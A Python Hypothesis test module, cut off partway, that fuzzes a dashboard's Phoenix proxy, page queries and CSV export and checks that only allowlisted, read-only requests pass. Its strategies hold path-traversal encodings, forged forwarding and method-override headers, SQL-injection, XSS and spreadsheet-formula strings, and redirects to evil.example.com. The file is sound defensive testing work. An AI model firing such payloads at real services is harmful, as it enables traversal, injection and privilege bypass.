"""Hostile input never breaks the proxy, the pages, the CSV export or the login form.

Hypothesis feeds each surface arbitrary paths, queries, methods, bodies and form fields, as a
signed-in user of every role, against one app whose Phoenix is a loopback recorder. What reaches
the recorder must be on an allowlist: for the proxies their mounts' paths, for the pages and
exports the dashboard client's own routes, each id one encoded segment (an experiment id only
when Phoenix listed it). The number of examples each property ran is written to
`.tmp/hostile-input-counts.json` at the end of the module; `python -m tests.test_hostile_input`
prints the configured budgets and that last record.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import shutil
import sys
import threading
import uuid
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, quote, unquote, urlencode, urlsplit

import pytest
from flask import request
from flask.testing import FlaskClient
from graphql import GraphQLError, OperationType, parse
from graphql.language import OperationDefinitionNode
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from hypothesis.database import DirectoryBasedExampleDatabase
from werkzeug.test import TestResponse

from app import create_app
from devtools import signin
from devtools.services import free_port
from services import users
from services.cache import cache
from services.container import get_services
from services.export import EXPORTS, FORMULA_PREFIXES, csv_chunks, escape_cell
from services.filters import RANGES, parse_query
from services.proxy import BLOCKED_PATHS, NON_DATA_POSTS, WRITE_METHODS
from settings import PROJECT_DIR, Settings
from store.facts import SpanAnnotationRow, SpanRow

from .callbacks import route
from .conftest import IN_CI, PASSWORD, TEST_SECRET, close_app, drop_store, unique_database
from .test_security_experiment_ids import compare_callback

COUNTS_FILE = PROJECT_DIR / ".tmp" / "hostile-input-counts.json"
# Failing examples are replayed from here on the next run; .tmp/ is ignored by git.
EXAMPLE_DB = DirectoryBasedExampleDatabase(str(PROJECT_DIR / ".tmp" / "hypothesis"))
# The example budget of each property: the figure the docs cite. Sized for < 60 s on 2 cores.
BUDGETS: dict[str, int] = {
    "api_proxy": 400,
    "ui_proxy": 300,
    "graphql_bodies": 200,
    "page_layouts": 120,
    "page_routing": 100,
    "page_redraws": 80,
    "export_endpoint": 150,
    "experiment_ids": 100,
    "escape_cell": 500,
    "login_form": 80,
}
ROLES = ("viewer", "member", "admin")
CASES: Counter[str] = Counter()
TRACEBACK = re.compile(rb'Traceback \(most recent call last\)|^\s*File "', re.MULTILINE)


def budget(name: str) -> Any:
    """Return Hypothesis settings with the property's example budget."""
    return hypothesis_settings(
        max_examples=BUDGETS[name],
        deadline=None,
        # CI replays the same cases, so a red run is reproducible and never a roll of the dice;
        # local runs draw new ones and keep exploring (failures are saved in EXAMPLE_DB).
        derandomize=IN_CI,
        database=None if IN_CI else EXAMPLE_DB,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )


# The recording Phoenix -------------------------------------------------------------------------


@dataclass(frozen=True)
class Seen:
    """One request as it reached the fake Phoenix: method, raw target, body and headers."""

    method: str
    target: str
    body: bytes
    headers: dict[str, str] = field(default_factory=dict)


@dataclass
class Recorder:
    """Everything the fake Phoenix received, in order, and what it answers besides `{}`."""

    seen: list[Seen] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)
    # JSON answers by decoded path segments; every other path gets `{}`.
    answers: dict[tuple[str, ...], Any] = field(default_factory=dict)

    def take(self) -> list[Seen]:
        """Return and forget what arrived so far."""
        with self.lock:
            seen, self.seen = self.seen, []
        return seen


def _recording_handler(recorder: Recorder) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        """Record the raw request line's target and answer 200 `{}` (or a set answer)."""

        protocol_version = "HTTP/1.1"
        # Headers and body go out as two writes; with Nagle's algorithm the second waits for
        # a delayed ACK, some 40 ms per request on a kept-alive connection.
        disable_nagle_algorithm = True

        def _answer(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            headers = {name.lower(): value for name, value in self.headers.items()}
            key = tuple(unquote(s) for s in urlsplit(self.path).path.split("/"))
            with recorder.lock:
                recorder.seen.append(Seen(self.command, self.path, body, headers))
                payload = json.dumps(recorder.answers.get(key, {})).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            # A grant to every site, which must never reach the browser through the proxy.
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Access-Control-Allow-Credentials", "true")
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(payload)

        do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = _answer

        def log_message(self, *args: object) -> None:
            """Stay quiet."""

    return Handler


@pytest.fixture(scope="module")
def recorder() -> Iterator[tuple[Recorder, str]]:
    """A loopback server standing in for Phoenix that records every request it gets."""
    record = Recorder()
    server = ThreadingHTTPServer(("127.0.0.1", free_port()), _recording_handler(record))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield record, f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


# One app for the module, its users and their clients ------------------------------------------


def csrf_token(client: FlaskClient) -> str | None:
    """GET the login form and return its CSRF token, or None when the form carries none."""
    return signin.csrf_token(client.get("/login").get_data(as_text=True)) or None


def login(client: FlaskClient, email: str, password: str = PASSWORD) -> TestResponse:
    """Sign in through the real form, with its CSRF token when it has one."""
    data = {"email": email, "password": password, "next": "/"}
    token = csrf_token(client)
    if token is not None:
        data["csrf_token"] = token
    return client.post("/login", data=data)


def signed_in(client: FlaskClient) -> bool:
    """Tell whether the client's session is logged in."""
    return client.get("/api/token").status_code == 200


@dataclass
class Harness:
    """The module's app, a signed-in client per role, and the recording Phoenix."""

    app: Any
    clients: dict[str, FlaskClient]
    recorder: Recorder
    user_emails: frozenset[str]


# Text the seeded rows carry, so exports have cells a spreadsheet would run.
HOSTILE_CELLS = ('=HYPERLINK("http://evil")', "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", "plain")


def _seed(app: Any) -> None:
    """Store a few LLM calls and evaluations whose text starts like a formula."""
    now = datetime.now(UTC)
    spans = []
    notes = []
    for i, text in enumerate(HOSTILE_CELLS):
        span = SpanRow(
            span_id=f"{i:016x}",
            trace_id=f"{i:032x}",
            project=text if i % 2 else "support-bot",
            prompt_id=None,
            template_hash=None,
            prompt_version=text,
            model=text,
            start_time=now - timedelta(hours=i + 1),
            latency_ms=-1.5 * i,
            prompt_tokens=i,
            completion_tokens=i,
            total_tokens=2 * i,
            status="ERROR" if i % 3 == 0 else "OK",
            cost=0.01 * i,
        )
        spans.append(span)
        notes.append(
            SpanAnnotationRow(
                annotation_id=f"ann-{i}",
                span_id=span.span_id,
                trace_id=span.trace_id,
                project=span.project,
                name=text,
                annotator_kind="LLM",
                label=text,
                score=-0.5 * i,
                updated_at=now,
                is_deleted=False,
                span_start_time=span.start_time,
                prompt_id=None,
                template_hash=None,
                prompt_version=span.prompt_version,
                model=span.model,
                span_status=span.status,
            )
        )
    store = get_services(app.server).store
    store.write_spans(spans)
    store.write_span_annotations(notes)


@pytest.fixture(scope="module")
def harness(
    tmp_path_factory: pytest.TempPathFactory,
    migrated_sqlite_template: Path,
    recorder: tuple[Recorder, str],
    chdb_dir: Path,
) -> Iterator[Harness]:
    """Build the app once, on the recording Phoenix, with a signed-in client per role."""
    record, url = recorder
    db_path = tmp_path_factory.mktemp("hostile") / "dashboard.db"
    store_url = f"chdb://{chdb_dir}?database={unique_database()}"
    shutil.copy(migrated_sqlite_template, db_path)
    settings = Settings.from_env(
        {
            "SECRET_KEY": TEST_SECRET,
            "DATABASE_URL": f"sqlite:///{db_path}",
            "STORE_URL": store_url,
            "PHOENIX_ENABLED": "true",
            "SYNC_WORKER": "false",
            "LOG_LEVEL": "ERROR",
        }
    ).with_overrides(testing=True, phoenix_url=url, phoenix_read_timeout_s=5.0)
    app = create_app(settings)
    _seed(app)
    clients: dict[str, FlaskClient] = {}
    with get_services(app.server).sessions.begin() as db:
        for role in ROLES:
            users.create_user(db, f"{role}@example.com", PASSWORD, role=role, display_name=role)
    for role in ROLES:
        client = app.server.test_client()
        assert login(client, f"{role}@example.com").status_code == 302
        clients[role] = client
    record.take()
    yield Harness(app, clients, record, frozenset(f"{role}@example.com" for role in ROLES))
    close_app(app.server)
    drop_store(store_url)


@pytest.fixture(scope="module", autouse=True)
def report_counts(request: pytest.FixtureRequest) -> Iterator[None]:
    """Write and print how many examples each property ran, once the module is done."""
    yield
    COUNTS_FILE.parent.mkdir(parents=True, exist_ok=True)
    record = {
        "budgets": BUDGETS,
        "executed": dict(sorted(CASES.items())),
        "total": sum(CASES.values()),
        "recorded_at": datetime.now(UTC).isoformat(timespec="seconds"),
    }
    COUNTS_FILE.write_text(json.dumps(record, indent=2) + "\n")
    line = f"hostile-input examples run: {json.dumps(record['executed'])} -> {COUNTS_FILE}"
    # Printed past pytest's output capture, so a plain (or -q) run shows it too.
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if capture is None:
        print(line)
        return
    with capture.global_and_fixture_disabled():
        print(f"\n{line}")


def assert_sane(response: TestResponse) -> None:
    """No 5xx (the stand-in Phoenix is always up), no traceback and no CORS grant."""
    body = response.get_data()
    assert response.status_code < 500, (response.status_code, body[:500])
    assert not TRACEBACK.search(body), body[:2000]
    granted = [n for n, _ in response.headers.items() if n.lower().startswith("access-control-")]
    assert granted == [], granted


# Every path the dashboard's own Phoenix client asks for; ID is one percent-encoded segment.
ID = "{id}"
CLIENT_ROUTES = (
    ("arize_phoenix_version",),
    ("graphql",),
    ("v1", "projects"),
    ("v1", "projects", ID),
    ("v1", "projects", ID, "spans"),
    ("v1", "projects", ID, "traces"),
    ("v1", "projects", ID, "span_annotations"),
    ("v1", "datasets"),
    ("v1", "datasets", ID, "experiments"),
    ("v1", "experiments", ID, "json"),
    ("v1", "prompts"),
    ("v1", "prompts", ID, "versions"),
    ("v1", "prompt_versions", ID, "tags"),
)


def client_ids(seen: Seen) -> list[str] | None:
    """Return the ids in a request the dashboard's client made, or None when off its routes.

    An id must be one segment encoded with nothing left safe (what `quote(id, safe="")` makes),
    so no value climbs, adds a query or splits into two segments in any server's reading.
    """
    segments = urlsplit(seen.target).path.split("/")
    if segments[0] != "":
        return None
    for template in CLIENT_ROUTES:
        if len(template) != len(segments) - 1:
            continue
        ids = []
        for expected, raw in zip(template, segments[1:], strict=True):
            if expected != ID:
                if raw != expected:
                    break
                continue
            value = unquote(raw)
            if value in ("", ".", "..") or raw != quote(value, safe=""):
                break
            ids.append(value)
        else:
            return ids
    return None


def assert_client_requests_allowed(seen: list[Seen], listed: set[str] | None = None) -> None:
    """Check what the pages and exports sent Phoenix: its routes, reads, and listed ids only."""
    for request_seen in seen:
        ids = client_ids(request_seen)
        assert ids is not None, f"{request_seen.method} {request_seen.target!r} is off the routes"
        if request_seen.target.startswith("/graphql"):
            assert request_seen.method == "POST" and not carries_mutation(request_seen)
        else:
            assert request_seen.method == "GET", request_seen
        if listed is not None:
            assert set(ids) <= listed, f"{request_seen.target!r} asks for an unlisted id"


# 1. The proxies --------------------------------------------------------------------------------


def phoenix_path(target: str) -> str | None:
    """Resolve a request target as a lenient server would; None when it climbs above the root.

    Decoding repeats until stable and backslashes count as slashes, so a server or framework
    that decodes twice or accepts Windows separators still finds the path inside the allowlist.
    """
    path = urlsplit(target).path
    if not path.startswith("/"):
        return None
    for _ in range(8):
        decoded = unquote(path, errors="replace")
        if decoded == path:
            break
        path = decoded
    segments: list[str] = []
    for segment in path.replace("\\", "/").split("/")[1:]:
        if segment == "..":
            if not segments:
                return None
            segments.pop()
        elif segment not in ("", "."):
            segments.append(segment)
    # A trailing slash stays: "v1/" is the API's prefix, and "v1" alone is not.
    trailing = "/" if segments and path.endswith(("/", "/.", "/..")) else ""
    return "/".join(segments) + trailing


def api_allowed(path: str) -> bool:
    """/api/phoenix forwards only GraphQL and the /v1 REST API minus the admin and agent routes."""
    return (path == "graphql" or path.startswith("v1/")) and not BLOCKED_PATHS.match(path)


def ui_allowed(path: str) -> bool:
    """/phoenix forwards the UI root and any other plain path except the admin and agent routes."""
    return not BLOCKED_PATHS.match(path)


def carries_mutation(seen: Seen) -> bool:
    """Tell whether a request that reached Phoenix's /graphql holds a mutation or subscription."""
    documents: list[object] = []
    if seen.method in ("GET", "HEAD"):
        # Phoenix's framework (Starlette) reads the last of repeated keys; check every one.
        documents += parse_qs(urlsplit(seen.target).query).get("query", [])
    else:
        try:
            payload = json.loads(seen.body or b"")
        except ValueError:
            return True
        for item in payload if isinstance(payload, list) else [payload]:
            documents.append(item.get("query") if isinstance(item, dict) else None)
    return any(writes_data(document) for document in documents)


def writes_data(document: object) -> bool:
    """Tell whether one GraphQL document parses and holds a mutation or subscription."""
    if not isinstance(document, str):
        return False
    try:
        parsed = parse(document, no_location=True)
    except GraphQLError:
        return False
    return any(
        isinstance(definition, OperationDefinitionNode)
        and definition.operation in (OperationType.MUTATION, OperationType.SUBSCRIPTION)
        for definition in parsed.definitions
    )


def is_read(seen: Seen, path: str) -> bool:
    """Tell whether a forwarded request leaves Phoenix's data as it was."""
    # Phoenix's router sends "graphql/" to the same endpoint (by a redirect) as "graphql".
    endpoint = path.strip("/").lower()
    if endpoint == "graphql":
        return not carries_mutation(seen)
    return seen.method not in WRITE_METHODS or endpoint in NON_DATA_POSTS


# Traversal tricks get a branch of their own, so most paths carry one or more of them.
TRAVERSALS = st.sampled_from(
    [
        "..",
        ".",
        "...",
        "..;",
        "%2e%2e",
        "%2E%2e",
        ".%2e",
        "%2e.",
        "%252e%252e",
        "%2f",
        "%2F..",
        "..%2f",
        "%5c",
        "%5C..",
        "..%5c",
        "%00",
        "%25",
        "%c0%ae%c0%ae",
        "%ef%bc%8e%ef%bc%8e",
        "..\\..",
        "\\",
        "\x00",
        "\uff0e\uff0e",  # full-width dots, which no server treats as ".."
        "%",
        "%zz",
        "",
        "?",
        "#",
    ]
)
NAMES = st.sampled_from(
    [
        "v1",
        "V1",
        "graphql",
        "projects",
        "spans",
        "datasets",
        "users",
        "user",
        "system",
        "secrets",
        "agent_sessions",
        "chat",
        "completions",
        "auth",
        "login",
        "healthz",
        "http:",
        "https:",
        "evil.example.com",
        "@evil.example.com",
        "~",
        "a" * 3000,
    ]
)
SEGMENTS = st.one_of(
    TRAVERSALS,
    NAMES,
    st.text(max_size=12),
    st.text(alphabet="./%\\2eEfF5cC0", max_size=10),
)
RANDOM_PATHS = st.builds(
    lambda lead, parts, trail: lead + "/".join(parts) + trail,
    # Mostly inside the API's "v1/" prefix, where the allowlist would let a traversal start.
    st.sampled_from(["", "/", "v1/", "v1/", "v1/", "graphql/", "v1/projects/", "x/"]),
    st.lists(SEGMENTS, max_size=5),
    st.sampled_from(["", "", "/", "?", "%3f"]),
)
# Paths built to climb: a prefix, some "up" steps spelled many ways, then a forbidden target.
CLIMBING_PATHS = st.builds(
    lambda lead, ups, sep, target: lead + "".join(up + sep for up in ups) + target,
    st.sampled_from(["", "v1/", "v1/projects/", "graphql/", "x/", "v1/projects/x/"]),
    st.lists(
        st.sampled_from(["..", "%2e%2e", ".%2e", "%2E.", "%252e%252e", "..;", ".", "..\\.."]),
        min_size=1,
        max_size=3,
    ),
    st.sampled_from(["/", "/", "%2f", "%2F", "\\", "%5c", "%252f"]),
    st.sampled_from(
        [
            "v1/users",
            "users",
            "healthz",
            "v1/system/api_keys",
            "graphql",
            "auth/login",
            "v1/secrets",
        ]
    ),
)
PATHS = st.one_of(RANDOM_PATHS, CLIMBING_PATHS)
QUERIES = st.one_of(
    st.just(""),
    st.text(max_size=40),
    st.lists(st.tuples(st.text(max_size=8), st.text(max_size=12)), max_size=4).map(urlencode),
    st.sampled_from(
        [
            "limit=1",
            "a=1&a=2",
            "%zz",
            "q=%00",
            "next=//evil.example.com",
            "x=../../v1/users",
            "url=http://evil.example.com/",
            "%%%",
            "q=" + "x" * 5000,
        ]
    ),
)
METHODS = st.sampled_from(
    ["GET", "GET", "HEAD", "POST", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND"]
)
MUTATION = 'mutation { createProject(input: {name: "hyp"}) { project { id } } }'
GRAPHQL_BODIES = st.one_of(
    st.sampled_from(
        [
            json.dumps({"query": MUTATION}),
            json.dumps({"query": "{ __typename }"}),
            json.dumps([{"query": "{ __typename }"}, {"query": MUTATION}]),
            json.dumps({"query": "subscription { x }"}),
            json.dumps({"query": "query A { a } mutation B { b }", "operationName": "A"}),
            json.dumps({"query": None}),
            json.dumps({"query": ["{ a }"]}),
            json.dumps([]),
            json.dumps([1, "x", None]),
            json.dumps("mutation { x }"),
            '{"query": "{ a }", "query": "' + MUTATION.replace('"', '\\"') + '"}',
            "{",
            "",
            "null",
            "\ufeff" + json.dumps({"query": MUTATION}),
            json.dumps({"query": MUTATION}).encode("utf-16").decode("latin-1"),
            "{ unclosed",
        ]
    ),
    st.text(max_size=60),
    st.builds(lambda q: json.dumps({"query": q}), st.text(max_size=40)),
)
BODIES = st.one_of(
    st.none(),
    st.binary(max_size=64),
    st.text(max_size=64).map(lambda t: t.encode("utf-8", "surrogatepass")),
    GRAPHQL_BODIES.map(lambda t: t.encode("utf-8", "surrogatepass")),
)
# A client's claims about proxies in front and method overrides: never forwarded to Phoenix.
FORGED_HEADER_NAMES = (
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Proto",
    "X-Forwarded-Port",
    "X-Forwarded-Prefix",
    "x-forwarded-anything",
    "Forwarded",
    "X-Real-IP",
    "X-HTTP-Method-Override",
    "X-HTTP-Method",
    "X-Method-Override",
)
FORGED = frozenset(name.lower() for name in FORGED_HEADER_NAMES)
FORGED_HEADERS = st.dictionaries(
    st.sampled_from(FORGED_HEADER_NAMES),
    st.sampled_from(["DELETE", "PUT", "evil.example.com", "https", "1", "/admin", "for=10.0.0.1"]),
    max_size=3,
)
CONTENT_TYPES = st.sampled_from(
    [
        None,
        "application/json",
        "APPLICATION/JSON; charset=utf-8",
        "application/graphql",
        "text/plain",
        "multipart/form-data; boundary=x",
        "application/x-www-form-urlencoded",
        "application/json\x00",
    ]
)


def wire_target(text: str) -> str:
    """Percent-encode what cannot stand in an HTTP request line, as a browser or curl would."""
    return "".join(
        ch if 0x21 <= ord(ch) < 0x7F and ch not in "#?" else quote(ch, safe="", errors="replace")
        for ch in text
    )


def send(
    client: FlaskClient,
    mount: str,
    path: str,
    query: str,
    method: str,
    body: bytes | None,
    content_type: str | None,
    wire: bool,
    headers: dict[str, str] | None = None,
) -> TestResponse:
    """Send one request; `wire` builds the WSGI environ as gunicorn does from a raw request line."""
    kwargs: dict[str, Any] = {
        "method": method,
        "data": body,
        "content_type": content_type,
        "headers": headers or {},
    }
    if not wire:
        target = f"{mount}{path}" + (f"?{query}" if query else "")
        return client.open(target, **kwargs)
    raw_path = wire_target(f"{mount}{path}")
    raw_query = wire_target(query).replace("#", "%23")
    raw = raw_path + (f"?{raw_query}" if raw_query else "")
    overrides = {
        "PATH_INFO": unquote(raw_path, encoding="latin-1"),
        "QUERY_STRING": raw_query,
        "RAW_URI": raw,
        "REQUEST_URI": raw,
    }
    return client.open("/", environ_overrides=overrides, **kwargs)


def check_proxy_exchange(
    harness: Harness,
    role: str,
    mount: str,
    allowed: Any,
    path: str,
    query: str,
    method: str,
    body: bytes | None,
    content_type: str | None,
    wire: bool,
    headers: dict[str, str] | None = None,
) -> TestResponse:
    """Send one hostile request through a mount and check its answer and what reached Phoenix."""
    harness.recorder.take()
    client = harness.clients[role]
    response = send(client, mount, path, query, method, body, content_type, wire, headers)
    # The recorder is always up, so a 502 or 504 here would blame Phoenix for a client's input.
    assert_sane(response)
    seen = harness.recorder.take()
    assert len(seen) <= 1, seen
    answer = response.get_json(silent=True)
    if response.status_code == 200 and (answer == {} or method == "HEAD"):
        assert len(seen) == 1, (path, query)
    elif isinstance(answer, dict) and "error" in answer:
        # A refusal (or our 401/404/405) means nothing was sent on.
        assert seen == [], (answer, seen)
    for forwarded in seen:
        resolved = phoenix_path(forwarded.target)
        assert resolved is not None, f"{forwarded.target!r} climbs above Phoenix's root"
        assert allowed(resolved), f"{forwarded.target!r} resolves to {resolved!r}"
        if role == "viewer":
            assert is_read(forwarded, resolved), f"a viewer's write reached Phoenix: {forwarded}"
        if forwarded.method in ("GET", "HEAD") and resolved.strip("/").lower() == "graphql":
            # Whatever the role: a mutation by GET would skip the write checks of a POST.
            assert not carries_mutation(forwarded), (
                f"a mutation by GET reached Phoenix: {forwarded}"
            )
        forged = [n for n in forwarded.headers if n in FORGED or n.startswith("x-forwarded-")]
        assert forged == [], f"{forged} reached Phoenix"
    return response


@pytest.mark.parametrize(("mount", "path"), [("/api/phoenix/", "v1/projects"), ("/phoenix/", "x")])
def test_the_recorder_sees_a_plain_read(harness: Harness, mount: str, path: str) -> None:
    """Guard the properties below: their allowlist checks run only on what reaches Phoenix."""
    harness.recorder.take()
    assert harness.clients["viewer"].get(mount + path).status_code == 200
    assert len(harness.recorder.take()) == 1


@budget("api_proxy")
@given(
    role=st.sampled_from(ROLES),
    path=PATHS,
    query=QUERIES,
    method=METHODS,
    body=BODIES,
    content_type=CONTENT_TYPES,
    wire=st.booleans(),
    headers=FORGED_HEADERS,
)
def test_api_proxy_answers_and_forwards_only_the_allowlist(
    harness: Harness,
    role: str,
    path: str,
    query: str,
    method: str,
    body: bytes | None,
    content_type: str | None,
    wire: bool,
    headers: dict[str, str],
) -> None:
    CASES["api_proxy"] += 1
    check_proxy_exchange(
        harness,
        role,
        "/api/phoenix/",
        api_allowed,
        path,
        query,
        method,
        body,
        content_type,
        wire,
        headers,
    )


@budget("ui_proxy")
@given(
    role=st.sampled_from(ROLES),
    path=PATHS,
    query=QUERIES,
    method=METHODS,
    body=BODIES,
    content_type=CONTENT_TYPES,
    wire=st.booleans(),
    headers=FORGED_HEADERS,
)
def test_ui_proxy_answers_and_forwards_only_the_allowlist(
    harness: Harness,
    role: str,
    path: str,
    query: str,
    method: str,
    body: bytes | None,
    content_type: str | None,
    wire: bool,
    headers: dict[str, str],
) -> None:
    CASES["ui_proxy"] += 1
    check_proxy_exchange(
        harness,
        role,
        "/phoenix/",
        ui_allowed,
        path,
        query,
        method,
        body,
        content_type,
        wire,
        headers,
    )


GRAPHQL_DOCUMENTS = st.lists(
    st.one_of(
        st.sampled_from(
            ["{ __typename }", "query { a }", MUTATION, "subscription { x }", "{", "", "mutation"]
        ),
        st.text(max_size=20),
    ),
    min_size=1,
    max_size=3,
)


def graphql_request(
    transport: str, documents: list[str], noise: str
) -> tuple[str, str, bytes | None, str | None]:
    """Carry GraphQL documents as a client may: repeated GET keys, a JSON body, a batch."""
    if transport == "get":
        # Repeated `query` keys: the proxy and Phoenix's framework must not read different ones.
        query = urlencode([("query", d) for d in documents])
        return "GET", f"{query}&{noise}" if noise else query, None, None
    if transport == "batch":
        body = json.dumps([{"query": d} for d in documents]).encode()
        return "POST", noise, body, "application/json"
    payload: dict[str, object] = {"query": documents[-1], "operationName": None}
    content_type = "application/json" if transport == "post" else "application/graphql"
    return "POST", noise, json.dumps(payload).encode(), content_type


@budget("graphql_bodies")
@given(
    role=st.sampled_from(["viewer", "viewer", "member", "admin"]),
    mount=st.sampled_from(["/api/phoenix/", "/phoenix/"]),
    path=st.sampled_from(["graphql", "graphql", "GraphQL", "graphql/", "v1/../graphql"]),
    transport=st.sampled_from(["get", "post", "batch", "other-type"]),
    documents=GRAPHQL_DOCUMENTS,
    noise=st.one_of(st.just(""), QUERIES),
)
def test_graphql_mutations_reach_phoenix_neither_for_viewers_nor_by_get(
    harness: Harness,
    role: str,
    mount: str,
    path: str,
    transport: str,
    documents: list[str],
    noise: str,
) -> None:
    CASES["graphql_bodies"] += 1
    allowed = api_allowed if mount.startswith("/api/") else ui_allowed
    method, query, body, content_type = graphql_request(transport, documents, noise)
    response = check_proxy_exchange(
        harness, role, mount, allowed, path, query, method, body, content_type, wire=True
    )
    if method == "GET" and any(map(writes_data, parse_qs(query).get("query", []))):
        # Refused as a 405 for every role, unless the path itself was refused first.
        answer = response.get_json(silent=True) or {}
        assert response.status_code == 405 or answer.get("error") in ("bad_path", "not_proxied"), (
            response.status_code,
            answer,
        )


# 2. The pages' URL queries ---------------------------------------------------------------------

FILTER_KEYS = ("project", "prompt", "versions", "model", "status", "range", "start", "end")
MOMENTS = st.one_of(
    st.sampled_from(
        [
            "0001-01-01T00:00+01:00",
            "9999-12-31T23:59-01:00",
            "0001-01-01",
            "9999-12-31T23:59:59.999999",
            "1677-09-21T00:12",
            "2262-04-11T23:48",
            "2026-11-20T09:00",
            "2026-11-21T09:00Z",
            "2026-02-30T00:00",
            "yesterday",
            "",
            "-1",
            "1e309",
        ]
    ),
    # Naive and aware times over the whole calendar, with offsets, years 1 and 9999 included.
    st.datetimes(
        min_value=datetime(1, 1, 1),
        max_value=datetime(9999, 12, 31, 23, 59),
        timezones=st.one_of(st.none(), st.timezones()),
    ).map(lambda d: d.isoformat()),
)
VALUES = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        [
            "OK",
            "ok",
            "ERROR",
            "MAYBE",
            *RANGES,
            "custom",
            "CUSTOM",
            "v1,v2",
            ",,,",
            "support-bot",
            *HOSTILE_CELLS,
            "\x00",
            "' OR 1=1 --",
            "<script>alert(1)</script>",
            "x" * 5000,
        ]
    ),
    MOMENTS,
)
# Half the queries ask for a custom range, so the start and end values are actually used.
CUSTOM_RANGE = st.one_of(
    st.just([]),
    st.builds(
        lambda start, end: [("range", "custom"), *start, *end],
        st.lists(st.tuples(st.just("start"), MOMENTS), max_size=1),
        st.lists(st.tuples(st.just("end"), MOMENTS), max_size=1),
    ),
)
QUERY_PAIRS = st.builds(
    lambda custom, pairs: custom + pairs,
    CUSTOM_RANGE,
    st.lists(
        st.tuples(
            st.one_of(
                st.sampled_from([*FILTER_KEYS, "version", "a", "b", "pathname_", "search_"]),
                st.text(max_size=10),
            ),
            VALUES,
        ),
        max_size=6,
    ),
)
PAGES = ("/", "/traces", "/evaluations", "/analytics", "/experiments", "/playground")
FILTERED = {"/traces", "/evaluations", "/analytics"}


def strings_in(tree: object) -> set[str]:
    """Collect every string in a JSON-like tree."""
    if isinstance(tree, str):
        return {tree}
    if isinstance(tree, dict):
        return set().union(*(strings_in(v) for v in tree.values())) if tree else set()
    if isinstance(tree, list | tuple):
        return set().union(*(strings_in(v) for v in tree)) if tree else set()
    return set()


@budget("page_routing")
@given(
    role=st.sampled_from(ROLES),
    page=st.sampled_from(PAGES),
    pairs=QUERY_PAIRS,
    raw=st.one_of(st.none(), st.text(max_size=40)),
)
def test_pages_render_any_url_query(
    harness: Harness, role: str, page: str, pairs: list[tuple[str, str]], raw: str | None
) -> None:
    CASES["page_routing"] += 1
    client = harness.clients[role]
    query = urlencode(pairs) if raw is None else raw
    search = f"?{query}" if query else ""
    harness.recorder.take()
    assert_sane(client.get(f"{page}{search}"))
    response = route(client, page, search)
    assert_sane(response)
    assert response.status_code == 200, response.get_data()[:500]
    assert_client_requests_allowed(harness.recorder.take())
    if page in FILTERED:
        # The same parse Dash Pages makes of the query, then ours: each dropped value is named.
        parsed = {k: v[0] if len(v) == 1 else v for k, v in parse_qs(query, True).items()}
        _state, problems = parse_query(parsed)
        shown = strings_in(response.json)
        assert all(problem in shown for problem in problems), (problems, search)


def call_layout(harness: Harness, page: str, query: dict[str, Any]) -> Any:
    """Call a page's layout with the URL's query parameters, as Dash Pages does."""
    module = sys.modules[f"pages.{page.strip('/') or 'home'}"]
    with harness.app.server.test_request_context("/"):
        return module.layout(**query)


@budget("page_layouts")
@given(
    page=st.sampled_from(PAGES),
    query=st.builds(
        lambda custom, rest: {**rest, **dict(custom)},
        CUSTOM_RANGE,
        st.dictionaries(
            st.one_of(st.sampled_from([*FILTER_KEYS, "version", "a", "b"]), st.text(max_size=8)),
            st.one_of(VALUES, st.lists(VALUES, min_size=2, max_size=3)),
            max_size=6,
        ),
    ),
)
def test_layouts_fall_back_on_bad_filters(harness: Harness, page: str, query: dict) -> None:
    CASES["page_layouts"] += 1
    harness.recorder.take()
    layout = call_layout(harness, page, query)
    assert_client_requests_allowed(harness.recorder.take())
    if page not in FILTERED:
        return
    state, problems = parse_query(query)
    tree = layout.to_plotly_json()
    shown = strings_in(json.loads(json.dumps(tree, default=lambda c: c.to_plotly_json())))
    assert all(problem in shown for problem in problems)
    # What survives parsing is a state the code can draw: a known range, ordered custom bounds.
    assert state.range in RANGES or state.range == "custom"
    if state.start and state.end:
        assert state.start < state.end


REDRAW = {
    "traces": lambda module, search: module.redraw(None, search),
    "evaluations": lambda module, search: module.redraw(None, search),
    "analytics": lambda module, search: module.redraw(None, "prompt_version", search),
}


@budget("page_redraws")
@given(
    page=st.sampled_from(sorted(REDRAW)),
    pairs=QUERY_PAIRS,
    raw=st.one_of(st.none(), st.text(max_size=40)),
)
def test_redraws_survive_any_stored_query(
    harness: Harness, page: str, pairs: list[tuple[str, str]], raw: str | None
) -> None:
    CASES["page_redraws"] += 1
    search = ("?" + urlencode(pairs)) if raw is None else raw
    harness.recorder.take()
    with harness.app.server.test_request_context("/"):
        outputs = REDRAW[page](sys.modules[f"pages.{page}"], search)
    assert isinstance(outputs, tuple) and outputs
    assert_client_requests_allowed(harness.recorder.take())


# 3. The CSV export -----------------------------------------------------------------------------


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_defused(rows: list[list[str]], kind: str) -> None:
    """No cell, the header's included, starts a formula (a number is data, not a formula)."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES) or _is_number(cell), (kind, cell)


@budget("export_endpoint")
